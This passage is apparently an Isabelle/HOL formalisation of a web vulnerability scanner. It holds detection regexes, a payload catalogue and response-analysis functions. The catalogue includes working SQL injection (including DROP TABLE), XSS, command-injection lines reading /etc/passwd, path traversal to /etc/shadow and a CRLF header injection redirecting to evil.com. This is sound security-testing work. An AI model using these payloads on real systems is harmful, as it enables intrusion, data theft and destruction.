      regexp_literal (''/C:'' @ [CHR 0x5C, CHR 0x5C] @ ''Users/i'') (lit (''C:'' @ [CHR 0x5C] @ ''Users'')) True False,
      regexp_literal (''/Program Files/i'') (lit (''Program Files'')) True False,
      regexp_literal (''/SYSTEM32/i'') (lit (''SYSTEM32'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[boot loader'' @ [CHR 0x5C] @ '']/i'') (lit (''[boot loader]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[operating systems'' @ [CHR 0x5C] @ '']/i'') (lit (''[operating systems]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[fonts'' @ [CHR 0x5C] @ '']/i'') (lit (''[fonts]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[extensions'' @ [CHR 0x5C] @ '']/i'') (lit (''[extensions]'')) True False,
      regexp_literal (''/COMPUTERNAME=/i'') (lit (''COMPUTERNAME='')) True False,
      regexp_literal (''/USERNAME=/i'') (lit (''USERNAME='')) True False,
      regexp_literal (''/USERDOMAIN=/i'') (lit (''USERDOMAIN='')) True False,
      regexp_literal (''/command not found/i'') (lit (''command not found'')) True False,
      regexp_literal (''/not recognized as an internal or external command/i'') (lit (''not recognized as an internal or external command'')) True False,
      regexp_literal (''/No such file or directory/i'') (lit (''No such file or directory'')) True False,
      regexp_literal (''/Permission denied/i'') (lit (''Permission denied'')) True False,
      regexp_literal (''/Access is denied/i'') (lit (''Access is denied'')) True False,
      regexp_literal (''/cannot find the path/i'') (lit (''cannot find the path'')) True False,
      regexp_literal (''/is not recognized as a cmdlet/i'') (lit (''is not recognized as a cmdlet'')) True False]\<close>

definition fileContentPatterns_loaded :: "regexp list" where
  \<open>fileContentPatterns_loaded = [
      regexp_literal (''/root:.*:0:0:/'') (seqs [lit (''root:''), Star (Sym AnyChar), lit ('':0:0:'')]) False False,
      regexp_literal (''/daemon:.*:1:1:/'') (seqs [lit (''daemon:''), Star (Sym AnyChar), lit ('':1:1:'')]) False False,
      regexp_literal (''/nobody:.*:65534:/'') (seqs [lit (''nobody:''), Star (Sym AnyChar), lit ('':65534:'')]) False False,
      regexp_literal (''/shadow:.*:'' @ [CHR 0x5C] @ ''*:/'') (seqs [lit (''shadow:''), Star (Sym AnyChar), lit ('':*:'')]) False False,
      regexp_literal (''/bin'' @ [CHR 0x5C] @ ''/bash/'') (lit (''bin/bash'')) False False,
      regexp_literal (''/bin'' @ [CHR 0x5C] @ ''/sh/'') (lit (''bin/sh'')) False False,
      regexp_literal (''/localhost/'') (lit (''localhost'')) False False,
      regexp_literal (''/127'' @ [CHR 0x5C] @ ''.0'' @ [CHR 0x5C] @ ''.0'' @ [CHR 0x5C] @ ''.1/'') (lit (''127.0.0.1'')) False False,
      regexp_literal (''/nameserver/'') (lit (''nameserver'')) False False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[global'' @ [CHR 0x5C] @ '']/i'') (lit (''[global]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[boot loader'' @ [CHR 0x5C] @ '']/i'') (lit (''[boot loader]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[operating systems'' @ [CHR 0x5C] @ '']/i'') (lit (''[operating systems]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[fonts'' @ [CHR 0x5C] @ '']/i'') (lit (''[fonts]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[extensions'' @ [CHR 0x5C] @ '']/i'') (lit (''[extensions]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[Mail'' @ [CHR 0x5C] @ '']/i'') (lit (''[Mail]'')) True False,
      regexp_literal (''/; for 16-bit app support/i'') (lit (''; for 16-bit app support'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[drivers'' @ [CHR 0x5C] @ '']/i'') (lit (''[drivers]'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[386Enh'' @ [CHR 0x5C] @ '']/i'') (lit (''[386Enh]'')) True False,
      regexp_literal (''/MSDOS'' @ [CHR 0x5C] @ ''.SYS/i'') (lit (''MSDOS.SYS'')) True False,
      regexp_literal (''/IO'' @ [CHR 0x5C] @ ''.SYS/i'') (lit (''IO.SYS'')) True False,
      regexp_literal (''/DB_PASSWORD/i'') (lit (''DB_PASSWORD'')) True False,
      regexp_literal (''/DB_HOST/i'') (lit (''DB_HOST'')) True False,
      regexp_literal (''/API_KEY/i'') (lit (''API_KEY'')) True False,
      regexp_literal (''/SECRET_KEY/i'') (lit (''SECRET_KEY'')) True False,
      regexp_literal (''/AWS_ACCESS/i'') (lit (''AWS_ACCESS'')) True False,
      regexp_literal (''/MYSQL_PASSWORD/i'') (lit (''MYSQL_PASSWORD'')) True False,
      regexp_literal (''/POSTGRES_PASSWORD/i'') (lit (''POSTGRES_PASSWORD'')) True False,
      regexp_literal (''/<?php/'') (seqs [Opt (Sym (Chr (CHR ''<''))), lit (''php'')]) False False,
      regexp_literal (''/<?xml/'') (seqs [Opt (Sym (Chr (CHR ''<''))), lit (''xml'')]) False False,
      regexp_literal (''/<'' @ [CHR 0x5C] @ ''?xml version/'') (lit (''<?xml version'')) False False,
      regexp_literal (''/<!DOCTYPE/'') (lit (''<!DOCTYPE'')) False False,
      regexp_literal (''/package'' @ [CHR 0x5C] @ ''.json/'') (lit (''package.json'')) False False,
      regexp_literal (''/"dependencies"/'') (lit (''"dependencies"'')) False False,
      regexp_literal (''/"devDependencies"/'') (lit (''"devDependencies"'')) False False]\<close>

definition path_errorPatterns_loaded :: "regexp list" where
  \<open>path_errorPatterns_loaded = [
      regexp_literal (''/No such file or directory/i'') (lit (''No such file or directory'')) True False,
      regexp_literal (''/File not found/i'') (lit (''File not found'')) True False,
      regexp_literal (''/Cannot find the file/i'') (lit (''Cannot find the file'')) True False,
      regexp_literal (''/Access denied/i'') (lit (''Access denied'')) True False,
      regexp_literal (''/Permission denied/i'') (lit (''Permission denied'')) True False,
      regexp_literal (''/failed to open stream/i'') (lit (''failed to open stream'')) True False,
      regexp_literal (''/include'' @ [CHR 0x5C] @ ''('' @ [CHR 0x5C] @ ''): Failed opening/i'') (lit (''include(): Failed opening'')) True False,
      regexp_literal (''/require'' @ [CHR 0x5C] @ ''('' @ [CHR 0x5C] @ ''): Failed opening/i'') (lit (''require(): Failed opening'')) True False,
      regexp_literal (''/fopen'' @ [CHR 0x5C] @ ''('' @ [CHR 0x5C] @ ''): failed/i'') (lit (''fopen(): failed'')) True False,
      regexp_literal (''/file_get_contents'' @ [CHR 0x5C] @ ''('' @ [CHR 0x5C] @ ''): failed/i'') (lit (''file_get_contents(): failed'')) True False,
      regexp_literal (''/is not a valid path/i'') (lit (''is not a valid path'')) True False,
      regexp_literal (''/Invalid file path/i'') (lit (''Invalid file path'')) True False,
      regexp_literal (''/Directory traversal/i'') (lit (''Directory traversal'')) True False,
      regexp_literal (''/Path traversal/i'') (lit (''Path traversal'')) True False]\<close>

definition nullBytePatterns_loaded :: "regexp list" where
  \<open>nullBytePatterns_loaded = [
      regexp_literal (''/%00/'') (lit (''%00'')) False False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''x00/'') (lit ([CHR 0x00])) False False,
      regexp_literal (''/'' @ [CHR 0x5C, CHR 0x5C] @ ''x00/'') (lit ([CHR 0x5C] @ ''x00'')) False False,
      regexp_literal (''/'' @ [CHR 0x5C, CHR 0x5C] @ ''0/'') (lit ([CHR 0x5C] @ ''0'')) False False]\<close>

definition vulnerabilityPatterns_loaded :: "regexp list" where
  \<open>vulnerabilityPatterns_loaded = [
      regexp_literal (''/mongodb/i'') (lit (''mongodb'')) True False,
      regexp_literal (''/mongoose/i'') (lit (''mongoose'')) True False,
      regexp_literal (''/bson/i'') (lit (''bson'')) True False,
      regexp_literal (''/objectid/i'') (lit (''objectid'')) True False,
      regexp_literal (''/cannot read property/i'') (lit (''cannot read property'')) True False,
      regexp_literal (''/unexpected token/i'') (lit (''unexpected token'')) True False,
      regexp_literal (''/syntaxerror.*json/i'') (seqs [lit (''syntaxerror''), Star (Sym AnyChar), lit (''json'')]) True False,
      regexp_literal (''/cast.*error/i'') (seqs [lit (''cast''), Star (Sym AnyChar), lit (''error'')]) True False,
      regexp_literal (''/invalid.*operator/i'') (seqs [lit (''invalid''), Star (Sym AnyChar), lit (''operator'')]) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''$where/i'') (lit (''$where'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''$regex/i'') (lit (''$regex'')) True False,
      regexp_literal (''/query.*failed/i'') (seqs [lit (''query''), Star (Sym AnyChar), lit (''failed'')]) True False]\<close>

definition nosql_successPatterns_loaded :: "regexp list" where
  \<open>nosql_successPatterns_loaded = [
      regexp_literal (''/"_id"'' @ [CHR 0x5C] @ ''s*:/i'') (seqs [lit (''"_id"''), Star (Sym Space), lit ('':'')]) True False,
      regexp_literal (''/"password"'' @ [CHR 0x5C] @ ''s*:/i'') (seqs [lit (''"password"''), Star (Sym Space), lit ('':'')]) True False,
      regexp_literal (''/"email"'' @ [CHR 0x5C] @ ''s*:/i'') (seqs [lit (''"email"''), Star (Sym Space), lit ('':'')]) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''[".*"'' @ [CHR 0x5C] @ '']/'') (seqs [lit (''["''), Star (Sym AnyChar), lit (''"]'')]) False False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''{".*":.*'' @ [CHR 0x5C] @ ''}/'') (seqs [lit (''{"''), Star (Sym AnyChar), lit (''":''), Star (Sym AnyChar), lit (''}'')]) False False]\<close>

definition verboseErrorPatterns_loaded :: "regexp list" where
  \<open>verboseErrorPatterns_loaded = [
      regexp_literal (''/stack'' @ [CHR 0x5C] @ ''s*trace/i'') (seqs [lit (''stack''), Star (Sym Space), lit (''trace'')]) True False,
      regexp_literal (''/at'' @ [CHR 0x5C] @ ''s+'' @ [CHR 0x5C] @ ''w+'' @ [CHR 0x5C] @ ''s+'' @ [CHR 0x5C] @ ''(/i'') (seqs [lit (''at''), Plus (Sym Space), Plus (Sym WordChar), Plus (Sym Space), lit (''('')]) True False,
      regexp_literal (''/exception/i'') (lit (''exception'')) True False,
      regexp_literal (''/error.*line'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''d+/i'') (seqs [lit (''error''), Star (Sym AnyChar), lit (''line''), Star (Sym Space), Plus (Sym Digit)]) True False,
      regexp_literal (''/syntax.*error/i'') (seqs [lit (''syntax''), Star (Sym AnyChar), lit (''error'')]) True False,
      regexp_literal (''/undefined.*property/i'') (seqs [lit (''undefined''), Star (Sym AnyChar), lit (''property'')]) True False,
      regexp_literal (''/cannot'' @ [CHR 0x5C] @ ''s+read/i'') (seqs [lit (''cannot''), Plus (Sym Space), lit (''read'')]) True False,
      regexp_literal (''/type.*error/i'') (seqs [lit (''type''), Star (Sym AnyChar), lit (''error'')]) True False,
      regexp_literal (''/internal'' @ [CHR 0x5C] @ ''s+server'' @ [CHR 0x5C] @ ''s+error/i'') (seqs [lit (''internal''), Plus (Sym Space), lit (''server''), Plus (Sym Space), lit (''error'')]) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''.js:'' @ [CHR 0x5C] @ ''d+:'' @ [CHR 0x5C] @ ''d+/i'') (seqs [lit (''.js:''), Plus (Sym Digit), lit ('':''), Plus (Sym Digit)]) True False,
      regexp_literal (''/node_modules/i'') (lit (''node_modules'')) True False]\<close>

definition loaded :: modules where
  "loaded = \<lparr>
    sqlErrorPatterns = sqlErrorPatterns_loaded,
    sql_successPatterns = sql_successPatterns_loaded,
    reflectionPatterns = reflectionPatterns_loaded,
    commandOutputPatterns = commandOutputPatterns_loaded,
    fileContentPatterns = fileContentPatterns_loaded,
    path_errorPatterns = path_errorPatterns_loaded,
    nullBytePatterns = nullBytePatterns_loaded,
    vulnerabilityPatterns = vulnerabilityPatterns_loaded,
    nosql_successPatterns = nosql_successPatterns_loaded,
    verboseErrorPatterns = verboseErrorPatterns_loaded\<rparr>"

section \<open>The payload catalogue\<close>

definition sqlInjection :: "string list" where
  \<open>sqlInjection = [
      [CHR 0x27] @ '' OR '1'='1'',
      ''" OR "1"="1'',
      [CHR 0x27] @ '' OR '1'='1' --'',
      ''" OR "1"="1" --'',
      [CHR 0x27] @ '' OR '1'='1' /*'',
      ''1' OR '1'='1'',
      ''1" OR "1"="1'',
      [CHR 0x27] @ '' UNION SELECT NULL--'',
      [CHR 0x27] @ '' UNION SELECT NULL, NULL--'',
      [CHR 0x27] @ '' UNION SELECT username, password FROM users--'',
      ''1 UNION SELECT * FROM users'',
      [CHR 0x27] @ '' AND 1=CONVERT(int, @@version)--'',
      [CHR 0x27] @ '' AND 1=1--'',
      [CHR 0x27] @ '' AND 1=2--'',
      [CHR 0x27] @ ''; WAITFOR DELAY '0:0:5'--'',
      [CHR 0x27] @ '' OR SLEEP(5)--'',
      ''1' AND SLEEP(5)#'',
      [CHR 0x27] @ ''; DROP TABLE users--'',
      [CHR 0x27] @ ''; INSERT INTO users VALUES('hacker','hacked')--'',
      [CHR 0x27] @ ''; UPDATE users SET password='hacked'--'',
      ''{'$gt': '' @ [CHR 0x27, CHR 0x27] @ ''}'',
      ''{'$ne': null}'',
      ''admin'--'',
      ''1; DROP TABLE users'',
      ''1'); DROP TABLE users--'',
      [CHR 0x27] @ '' OR '' @ [CHR 0x27, CHR 0x27] @ ''='' @ [CHR 0x27],
      [CHR 0x27] @ '' OR 1=1#'',
      ''admin'/*'',
      [CHR 0x27] @ '') OR ('1'='1'']\<close>

definition xss :: "string list" where
  \<open>xss = [
      ''<script>alert(1)</script>'',
      ''<script>alert('XSS')</script>'',
      ''<script>alert(document.cookie)</script>'',
      ''<img src=x onerror=alert(1)>'',
      ''<img src=x onerror='alert(1)'>'',
      ''<svg onload=alert(1)>'',
      ''<body onload=alert(1)>'',
      ''<input onfocus=alert(1) autofocus>'',
      ''<marquee onstart=alert(1)>'',
      ''<video><source onerror=alert(1)>'',
      ''" onclick="alert(1)"'',
      [CHR 0x27] @ '' onclick='alert(1)'' @ [CHR 0x27],
      ''" onfocus="alert(1)" autofocus="'',
      ''javascript:alert(1)'',
      ''javascript:alert(document.domain)'',
      ''data:text/html,<script>alert(1)</script>'',
      ''%3Cscript%3Ealert(1)%3C/script%3E'',
      ''&#60;script&#62;alert(1)&#60;/script&#62;'',
      [CHR 0x5C] @ ''x3cscript'' @ [CHR 0x5C] @ ''x3ealert(1)'' @ [CHR 0x5C] @ ''x3c/script'' @ [CHR 0x5C] @ ''x3e'',
      ''<svg><script>alert(1)</script></svg>'',
      ''<svg/onload=alert(1)>'',
      ''{{constructor.constructor('alert(1)')()}}'',
      ''${alert(1)}'',
      ''#{alert(1)}'',
      [CHR 0x27] @ ''-alert(1)-'' @ [CHR 0x27],
      ''"-alert(1)-"'',
      ''</script><script>alert(1)</script>'']\<close>

definition commandInjection :: "string list" where
  \<open>commandInjection = [
      ''; ls'',
      ''; ls -la'',
      ''| ls'',
      ''| ls -la'',
      ''& ls'',
      ''&& ls'',
      ''; cat /etc/passwd'',
      ''| cat /etc/passwd'',
      ''; whoami'',
      ''| whoami'',
      ''&& whoami'',
      ''& whoami'',
      ''; id'',
      ''| id'',
      ''; uname -a'',
      ''| uname -a'',
      ''& dir'',
      ''| dir'',
      ''; dir'',
      ''&& dir'',
      ''| type C:'' @ [CHR 0x5C] @ ''Windows'' @ [CHR 0x5C] @ ''System32'' @ [CHR 0x5C] @ ''drivers'' @ [CHR 0x5C] @ ''etc'' @ [CHR 0x5C] @ ''hosts'',
      ''; type C:'' @ [CHR 0x5C] @ ''Windows'' @ [CHR 0x5C] @ ''win.ini'',
      ''& whoami'',
      ''| net user'',
      ''; sleep 5'',
      ''| sleep 5'',
      ''&& sleep 5'',
      ''; ping -c 5 127.0.0.1'',
      ''| ping -n 5 127.0.0.1'',
      ''`ls`'',
      ''`whoami`'',
      ''`cat /etc/passwd`'',
      ''$(ls)'',
      ''$(whoami)'',
      ''$(cat /etc/passwd)'',
      ''%0als'',
      ''%0awhoami'',
      [CHR 0x5C] @ ''nls'',
      [CHR 0x5C] @ ''nwhoami'',
      ''; ls%00'',
      ''| whoami%00'']\<close>

definition pathTraversal :: "string list" where
  \<open>pathTraversal = [
      ''../../../etc/passwd'',
      ''../../../../etc/passwd'',
      ''../../../../../etc/passwd'',
      ''../../../../../../etc/passwd'',
      ''../../../etc/shadow'',
      ''../../../etc/hosts'',
      ''../../../var/log/auth.log'',
      ''../../../root/.bash_history'',
      ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''windows'' @ [CHR 0x5C] @ ''system.ini'',
      ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''windows'' @ [CHR 0x5C] @ ''system.ini'',
      ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''windows'' @ [CHR 0x5C] @ ''win.ini'',
      ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''boot.ini'',
      ''....//....//....//etc/passwd'',
      ''....//..//..//..//windows/system.ini'',
      ''%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd'',
      ''%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini'',
      ''..%2f..%2f..%2fetc%2fpasswd'',
      ''..%5c..%5c..%5cwindows%5csystem.ini'',
      ''%252e%252e%252f%252e%252e%252fetc%252fpasswd'',
      ''..%252f..%252f..%252fetc%252fpasswd'',
      ''../../../etc/passwd%00'',
      ''../../../etc/passwd%00.jpg'',
      ''../../../etc/passwd'' @ [CHR 0x00] @ ''.jpg'',
      ''..%c0%af..%c0%af..%c0%afetc/passwd'',
      ''..%c1%9c..%c1%9c..%c1%9cwindows/system.ini'',
      ''....//....//....//etc/passwd'',
      ''..../'' @ [CHR 0x5C] @ ''/..../'' @ [CHR 0x5C] @ ''/..../'' @ [CHR 0x5C] @ ''/etc/passwd'',
      ''..;/..;/..;/etc/passwd'']\<close>

definition nosqlInjection :: "string list" where
  \<open>nosqlInjection = [
      ''{"$gt": ""}'',
      ''{"$ne": null}'',
      ''{"$ne": ""}'',
      ''{"$exists": true}'',
      ''{"$regex": ".*"}'',
      ''{"$where": "1==1"}'',
      ''{"$or": [{"a": 1}, {"b": 2}]}'',
      ''{"username": {"$ne": null}, "password": {"$ne": null}}'',
      ''{"username": {"$gt": ""}, "password": {"$gt": ""}}'',
      ''{"$where": "this.password.length > 0"}'',
      ''{"$where": "function() { return true; }"}'',
      ''{"name": {"$ne": null}}'',
      ''{"debug": {"$gt": ""}}'',
      ''{"admin": true}'',
      ''{"role": "admin"}'',
      ''{"isAdmin": true, "__proto__": {"admin": true}}'',
      ''{"__proto__": {"admin": true}}'',
      ''{"constructor": {"prototype": {"admin": true}}}'',
      ''{"__proto__": {"isAdmin": true}}'',
      ''{"$in": [1, 2, 3]}'',
      ''{"ids": {"$in": [1, 2, 3, 4, 5]}}'',
      ''true, $where: "1 == 1"'',
      ''1, $or: [{}, {"a": "a"}]'',
      [CHR 0x27] @ ''; return true; var dummy='' @ [CHR 0x27],
      ''1; return true'',
      ''1'; return true; var x='' @ [CHR 0x27],
      ''function() { return true; }'']\<close>

definition headerInjection :: "string list" where
  \<open>headerInjection = [
      ''<script>alert(1)</script>'',
      ''"><img src=x onerror=alert(1)>'',
      [CHR 0x27] @ '' OR '1'='1'',
      [CHR 0x27] @ ''; DROP TABLE users; --'',
      ''7.0.1; DROP TABLE users'',
      ''test'' @ [CHR 0x0D, CHR 0x0A] @ ''Set-Cookie: malicious=value'',
      ''test%0d%0aSet-Cookie: evil=true'',
      ''%0d%0aLocation: http://evil.com'',
      ''evil.com'',
      ''127.0.0.1'',
      ''localhost'']\<close>

definition malformedPayloads :: "string list" where
  \<open>malformedPayloads = [
      ''{ "name": 123,, "xyz": }'',
      ''{"unclosed": "string'',
      ''{name: "no quotes"}'',
      ''{"trailing": "comma",}'',
      [],
      ''{}'',
      ''[]'',
      ''null'',
      ''{"name": 12345}'',
      ''{"age": "twenty"}'',
      ''{"active": "yes"}'',
      ''{"items": "not-array"}'',
      ''{"count": -1}'',
      ''{"count": 999999999999}'',
      ''{"id": -999999}'',
      ''{"name": "'' @ [CHR 0x5C] @ ''u0000'' @ [CHR 0x5C] @ ''u0001"}'',
      ''{"name": "test'' @ [CHR 0x5C] @ ''ninjection"}'',
      ''{"name": "'' @ [CHR 0xF0, CHR 0x9F, CHR 0x98, CHR 0x80, CHR 0xF0, CHR 0x9F, CHR 0x8E, CHR 0x89, CHR 0xF0, CHR 0x9F, CHR 0x94, CHR 0xA5] @ ''"}'',
      ''{"name": "'' @ [CHR 0xE4, CHR 0xB8, CHR 0xAD, CHR 0xE6, CHR 0x96, CHR 0x87, CHR 0xE6, CHR 0xB5, CHR 0x8B, CHR 0xE8, CHR 0xAF, CHR 0x95] @ ''"}'',
      ''{"a":{"b":{"c":{"d":{"e":{"f":"deep"}}}}}}'']\<close>

definition httpMethods :: "string list" where
  \<open>httpMethods = [
      ''TRACE'',
      ''OPTIONS'',
      ''PUT'',
      ''DELETE'',
      ''PATCH'',
      ''CONNECT'',
      ''PROPFIND'',
      ''DEBUG'']\<close>

definition sizeTests :: "string list" where
  \<open>sizeTests = [
      ''500_chars'',
      ''1000_chars'',
      ''5000_chars'',
      ''10000_chars'',
      ''50000_chars'']\<close>

section \<open>SQL injection\<close>

definition sql_wafIndicators :: "string list" where
  "sql_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''request blocked'',
      ''security block'', ''firewall'', ''cloudflare'', ''akamai'', ''imperva'',
      ''incapsula'', ''sucuri'', ''mod_security'', ''web application firewall'', ''waf'',
      ''attack detected'', ''malicious request'', ''sql injection'', ''invalid request'',
      ''request rejected'']"

definition sql_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "sql_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>indicator. str_includes bodyLower indicator) sql_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' \<or> str_includes bodyLower ''cf-ray''
      then True
      else False)"

definition sql_auth_regexp :: regexp where
  "sql_auth_regexp =
     regexp_literal ''/success|authenticated|welcome|token|session|jwt|bearer/i''
       (alts [lit ''success'', lit ''authenticated'', lit ''welcome'', lit ''token'',
              lit ''session'', lit ''jwt'', lit ''bearer'']) True False"

definition sql_verbose_regexp :: regexp where
  "sql_verbose_regexp =
     regexp_literal (''/stack trace|exception|error.*line '' @ [CHR 0x5C] @ ''d+/i'')
       (alts [lit ''stack trace'', lit ''exception'',
              seqs [lit ''error'', Star (Sym AnyChar), lit ''line '', Plus (Sym Digit)]])
       True False"

definition sql_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>sql_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if sql_isWAFBlocked response body then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' WAF/Firewall blocked the malicious request'') result;
             result = push (''Response status: '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF.''\<rparr>
         in (result, m))
      else if 400 \<le> status response \<and> status response < 500 \<and> status response \<noteq> 401 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (''Request rejected with status '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''Request was rejected - server may have input validation''\<rparr>
         in (result, m))
      else
        (let (hit, table) = test_first (sqlErrorPatterns m) body;
             m = m\<lparr>sqlErrorPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' SQL error message detected in response'')
                       (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: SQL error exposed - '' @ take 50 (source_text pattern)\<rparr>);
             (hit, table) = test_first (sql_successPatterns m) body;
             m = m\<lparr>sql_successPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Potential data leakage detected'')
                       (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: Sensitive data pattern found in response''\<rparr>);
             result =
               (if (str_includes payload (''OR '1'='1'') \<or> str_includes payload ''OR "1"="1'') \<and>
                   status response = 200 \<and> test_literal sql_auth_regexp body
                then
                  (push (warning_sign @ '' Potential authentication bypass'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: SQL injection payload resulted in successful authentication''\<rparr>
                else result);
             result =
               (case originalStatus of
                  None \<Rightarrow> result
                | Some original \<Rightarrow>
                    if status response \<noteq> original \<and> status response = 200 \<and> 400 \<le> original
                    then
                      (push (warning_sign @ '' Status code changed from error to success'')
                         (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                      \<lparr>notes := ''SUSPICIOUS: Injection changed response from error to success''\<rparr>
                    else result);
             result =
               (if \<not> vulnerable result then
                  (push ''No SQL injection indicators found'' result)
                  \<lparr>notes := ''SAFE: No SQL error messages or injection indicators detected in response''\<rparr>
                else result);
             result =
               (if test_literal sql_verbose_regexp body
                then push (info_sign @ '' Verbose error messages detected (info disclosure)'') result
                else result)
         in (result, m)))\<close>

section \<open>Cross-site scripting\<close>

definition dangerousPatterns :: "string list" where
  \<open>dangerousPatterns = [
      ''<script>'',
      ''</script>'',
      ''javascript:'',
      ''onerror='',
      ''onload='',
      ''onclick='',
      ''onmouseover='',
      ''onfocus='',
      ''onblur='',
      ''<img'',
      ''<svg'',
      ''<iframe'']\<close>

definition isPayloadReflected :: "string \<Rightarrow> string \<Rightarrow> bool" where
  \<open>isPayloadReflected body payload =
     (if str_includes body payload then True
      else if (case decodeURIComponent payload of
                 None \<Rightarrow> False
               | Some decoded \<Rightarrow> str_includes body decoded) then True
      else
        let htmlDecoded =
              replaceAll ''&#39;'' [CHR 0x27]
                (replaceAll ''&quot;'' ''"''
                  (replaceAll ''&amp;'' ''&''
                    (replaceAll ''&gt;'' ''>''
                      (replaceAll ''&lt;'' ''<'' payload))))
        in if str_includes body htmlDecoded then True else False)\<close>

definition checkDangerousContent :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "checkDangerousContent body payload =
     filter (\<lambda>pattern.
        str_includes (toLowerCase payload) (toLowerCase pattern) \<and>
        str_includes (toLowerCase body) (toLowerCase pattern)) dangerousPatterns"

definition xss_wafIndicators :: "string list" where
  "xss_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''request blocked'',
      ''security block'', ''firewall'', ''cloudflare'', ''akamai'', ''imperva'',
      ''incapsula'', ''sucuri'', ''mod_security'', ''web application firewall'', ''waf'',
      ''attack detected'', ''malicious request'', ''sql injection'',
      ''cross-site scripting'', ''xss detected'', ''invalid request'', ''request rejected'']"

definition xss_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "xss_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>indicator. str_includes bodyLower indicator) xss_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' \<or> str_includes bodyLower ''cf-ray''
      then True
      else False)"

definition xss_errorIndicators :: "string list" where
  "xss_errorIndicators = [''invalid'', ''error'', ''bad request'', ''not allowed'', ''rejected'']"

definition xss_securityHeaders :: "string list" where
  "xss_securityHeaders = [''x-xss-protection'', ''content-security-policy'', ''x-content-type-options'']"

definition xss_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>xss_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if xss_isWAFBlocked response body then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' WAF/Firewall blocked the malicious request'') result;
             result = push (''Response status: '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF.''\<rparr>
         in (result, m))
      else if 400 \<le> status response \<and> status response < 600 \<and>
              list_ex (\<lambda>ind. str_includes (toLowerCase body) ind) xss_errorIndicators then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (''Request rejected with status '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''Request was rejected by the server - input validation may be in place''\<rparr>
         in (result, m))
      else
        (let result =
               (if isPayloadReflected body payload then
                  (let dangerousContent = checkDangerousContent body payload in
                   if 0 < length dangerousContent then
                     (push (''Dangerous content found: '' @ join '', '' dangerousContent)
                        (push (warning_sign @ '' Payload reflected without sanitization'')
                           (result\<lparr>vulnerable := True, confidence := High\<rparr>)))
                     \<lparr>notes := ''VULNERABLE: XSS payload was reflected in the response without proper encoding. This could allow script execution.''\<rparr>
                   else
                     (push ''Payload reflected in response''
                        (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                     \<lparr>notes := ''Payload found in response - verify if properly escaped in browser context''\<rparr>)
                else
                  (push ''Payload was not reflected in response'' (result\<lparr>vulnerable := False\<rparr>))
